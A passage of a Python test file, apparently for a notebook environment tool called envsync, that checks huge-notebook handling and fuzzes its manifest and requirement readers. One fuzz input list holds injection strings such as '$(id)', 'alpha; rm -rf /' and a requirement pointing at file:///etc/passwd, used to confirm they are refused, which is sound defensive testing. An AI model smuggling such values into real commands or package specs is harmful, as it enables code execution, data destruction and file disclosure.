        "peak_rss_mb": round(r.max_rss_mb or 0),
        "file_mb": round(size / 1e6),
    }


@pytest.mark.parametrize("command", ["show", "lock-check", "check"])
def test_huge_notebook_is_read_and_answered(command: str, huge_nb: Path) -> None:
    argv = {
        "show": ["show", huge_nb],
        "lock-check": ["lock", huge_nb, "--check"],
        "check": ["check", huge_nb],
    }[command]
    before = sha256_of(huge_nb)
    r = run_console(argv, timeout=120)
    if command == "check":  # no env built yet: exit 3 with one line saying so
        assert_one_clean_error(r, codes=3, text="no environment for this lock yet")
    else:
        assert r.code == 0, r.err
    assert sha256_of(huge_nb) == before
    record(f"huge_notebook.{command}", _figure(r, huge_nb.stat().st_size))


def test_huge_notebook_add_changes_only_the_manifest(huge_nb: Path) -> None:
    before = huge_nb.read_bytes()
    old_manifest = json.loads(before)["metadata"]["envsync"]
    r = run_console(["add", huge_nb, "beta"], timeout=180)
    assert r.code == 0, r.err
    after = huge_nb.read_bytes()
    assert "beta" in json.loads(after)["metadata"]["envsync"]["dependencies"]
    # Putting the old manifest back gives the original file byte for byte: nothing else moved.
    assert notebook.splice_manifest(after.decode(), old_manifest).encode() == before
    assert sorted(p.name for p in huge_nb.parent.iterdir() if p.name != "home") == ["huge.ipynb"]
    record("huge_notebook.add", _figure(r, len(after)))


def test_huge_notebook_with_a_future_manifest_is_one_error_and_unchanged(huge_nb: Path) -> None:
    raw = huge_nb.read_text()
    manifest = json.loads(raw)["metadata"]["envsync"]
    huge_nb.write_text(notebook.splice_manifest(raw, {**manifest, "version": 2}))
    del raw
    before = sha256_of(huge_nb)
    r = run_console(["add", huge_nb, "beta"], timeout=120)
    assert_one_clean_error(r, text="manifest version 2 is newer")
    assert sha256_of(huge_nb) == before
    record("huge_notebook.add_future_manifest", _figure(r, huge_nb.stat().st_size))


# --- fuzzing the manifest reader ---------------------------------------------------------------

json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=40),
    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(st.text(max_size=12), inner, max_size=5),
    max_leaves=30,
)

FIELDS = ["version", "project", "requires-python", "dependencies", "environments", "index", "lock"]


def parse_only_envsync_errors(data: Any) -> Any:
    try:
        parsed = manifest_mod.parse_manifest(data)
    except EnvsyncError:
        count("bad_input.fuzz_refused")
        return None
    count("bad_input.fuzz_accepted")
    # What it accepts keeps the promises made to file paths and the installer.
    assert rules.is_project_slug(parsed.project)
    for dep in parsed.dependencies:
        assert not dep.startswith("-") and "@" not in dep.split(";")[0]
    return parsed


@hsettings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(value=json_values)
def test_manifest_reader_raises_only_envsync_errors_for_any_json_value(value: Any) -> None:
    parse_only_envsync_errors(value)


@hsettings(max_examples=400, deadline=None)
@given(
    fields=st.dictionaries(st.sampled_from([*FIELDS, "extra"]), json_values, max_size=7),
)
def test_manifest_reader_raises_only_envsync_errors_for_any_fields(fields: dict[str, Any]) -> None:
    parse_only_envsync_errors(fields)


def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    out = [prefix]
    if isinstance(value, dict):
        for k, v in value.items():
            out += _paths(v, (*prefix, k))
    elif isinstance(value, list):
        for i, v in enumerate(value):
            out += _paths(v, (*prefix, i))
    return out


def _replace(value: Any, path: tuple[Any, ...], new: Any, *, delete: bool) -> Any:
    if not path:
        return new
    copy = json.loads(json.dumps(value))
    node = copy
    for key in path[:-1]:
        node = node[key]
    if delete:
        del node[path[-1]]
    else:
        node[path[-1]] = new
    return copy


@pytest.fixture(scope="module")
def valid_manifest(locked_template: Path) -> dict[str, Any]:
    return manifest_of(locked_template)


text_like_input = st.one_of(
    json_values,
    st.text(alphabet=string.printable + "é\x00☃", max_size=60),
    st.sampled_from(
        [
            "../x",
            "a/b",
            "$(id)",
            "`id`",
            "alpha; rm -rf /",
            "--index-url=http://e",
            "-e .",
            "alpha @ file:///etc/passwd",
            "==3.8.*",
            "<3",
            ">=3.11",
            "sha256:" + "0" * 64,
            "0" * 64,
            "linux-x86_64",
            'python_version ~= "3"',
            "x" * 5000,
            "",
            " ",
            "\n",
        ]
    ),
)


@hsettings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_manifest_reader_raises_only_envsync_errors_for_any_edit_of_a_valid_manifest(
    valid_manifest: dict[str, Any], data: st.DataObject
) -> None:
    paths = _paths(valid_manifest)
    path = data.draw(st.sampled_from(paths))
    delete = bool(path) and data.draw(st.booleans())
    new = None if delete else data.draw(text_like_input)
    parse_only_envsync_errors(_replace(valid_manifest, path, new, delete=delete))


@hsettings(max_examples=500, deadline=None)
@given(
    text=st.one_of(
        st.text(max_size=80), st.from_regex(r"[a-z]{1,8}\s*(==|>=|~=|@|;|\[)\s*[ -~]{0,40}", fullmatch=True)
    )
)
def test_requirement_reader_accepts_only_plain_index_requirements(text: str) -> None:
    try:
        req = manifest_mod.normalize_requirement(text)
    except EnvsyncError:
        return
    from packaging.requirements import Requirement

    parsed = Requirement(req)
    assert parsed.url is None and not req.startswith("-")


@hsettings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(raw=st.one_of(st.binary(max_size=200), json_values.map(lambda v: json.dumps(v).encode())))
def test_notebook_reader_raises_only_notebook_errors_for_any_bytes(tmp_path: Path, raw: bytes) -> None:
    path = tmp_path / "fuzz.ipynb"
    path.write_bytes(raw)
    try:
        notebook.read_notebook(path)
    except EnvsyncError:
        pass
